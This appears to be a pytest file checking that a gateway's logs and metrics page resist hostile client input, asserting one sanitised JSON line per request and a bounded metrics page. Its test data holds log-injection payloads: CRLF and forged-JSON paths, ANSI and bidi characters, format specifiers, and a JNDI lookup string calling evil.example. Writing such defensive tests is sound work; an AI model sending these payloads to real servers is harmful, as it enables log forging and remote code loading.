"""What clients can get into the log and the metrics of a running gateway (H19, H20)."""

from __future__ import annotations

import json
import socket
from collections.abc import Iterator

import pytest

from tests.support.backends import Backend, grpcio_backend
from tests.support.gateway import RunningGateway, eventually, serving, start_gateway

__all__ = ["grpcio_backend"]

TOKEN = "eyJhbGciOiJub25lIn0.eyJzdWIiOiJzM2NyM3QifQ.c2VjcmV0"
HOSTILE = {
    "crlf": "/a%0d%0a%7b%22level%22:%22FORGED%22%7d",
    "ansi": "/a%1b%5b2J",
    "line separator": "/a%e2%80%a8b",
    "bidi": "/a%e2%80%aeb",
    "json": '/a"}}{"level":"FORGED',
    "jndi": "/${jndi:ldap://evil.example/x}",
    "format": "/%25n%25s%25p",
    "token": f"/reset/{TOKEN}",
    "query": f"/a?token={TOKEN}",
    "long": "/" + "x" * 8_000,
}
"""Targets as they are sent; what is no proper path is refused, and logged all the same."""


@pytest.fixture(scope="module")
def gateway(grpcio_backend: Backend) -> Iterator[RunningGateway]:
    """One worker."""
    with start_gateway(serving(grpcio_backend.endpoint)) as started:
        started.wait_until_routed("/api/items/1")
        yield started


def ask(gateway: RunningGateway, data: bytes) -> int:
    """Send bytes as they are; return the status of the first answer."""
    with socket.create_connection(("127.0.0.1", gateway.port), timeout=10) as connection:
        connection.sendall(data)
        return int(connection.recv(65_536).split(b" ", 2)[1])


def mark(gateway: RunningGateway, name: str) -> int:
    """Have a line of our own logged; return how many requests have one then."""
    gateway.get(f"/{name}")
    eventually(lambda: any(f"/{name}" in line for line in gateway.process.stdout.lines), "the mark is logged")
    return len(gateway.log("request completed"))


@pytest.mark.parametrize("target", HOSTILE.values(), ids=HOSTILE.keys())
def test_one_request_is_one_line(gateway: RunningGateway, target: str, request: pytest.FixtureRequest) -> None:
    """H19: one physical line, valid JSON, nothing invisible, bounded, no secret; by path and by header."""
    name = f"h19-{abs(hash(request.node.name))}"
    lines = (
        f"GET {target} HTTP/1.1",
        "Host: gateway.test",
        f"X-Request-Id: {name}",
        f"Authorization: Bearer {TOKEN}",
        f"Cookie: session={TOKEN}",
        'User-Agent: "}\x1b[31m${jndi:ldap://evil.example}%n\u202e'.encode().decode("latin-1"),
        f"X-Long: {'u' * 32_000}",
        "Connection: close",
    )
    before = mark(gateway, f"before-{name}")
    status = ask(gateway, "\r\n".join((*lines, "", "")).encode("latin-1"))
    assert 400 <= status < 500
    assert mark(gateway, f"after-{name}") - before == 2
    for line in gateway.process.stdout.lines:
        assert line.rstrip("\n").isprintable()
        assert len(line) <= 16 * 1024
        assert TOKEN not in line
        assert json.loads(line)["level"] in ("DEBUG", "INFO", "WARN", "ERROR")


def test_clients_cannot_make_the_page_grow(gateway: RunningGateway) -> None:
    """H20: distinct paths, methods, agents, ids and tokens; unit tests do the same 100,000 times."""

    def burst(kind: str) -> None:
        for number in range(300):
            name = f"{kind}{number}"
            gateway.ask(
                f"M{name.upper()}",
                f"/{name}/{number}",
                headers={"user-agent": name, "x-request-id": name, "authorization": f"Bearer {name}"},
            )
            gateway.get(f"/api/items/{name}", headers={"x-forwarded-for": f"10.0.{number // 256}.{number % 256}"})

    burst("alpha")
    before = gateway.get("/metrics").body.count(b"\n")
    burst("omega")
    page = gateway.get("/metrics").body
    assert abs(page.count(b"\n") - before) <= 20, "a line or two for statuses seen late"
    assert b"omega" not in page
    assert len(page) < 1024 * 1024
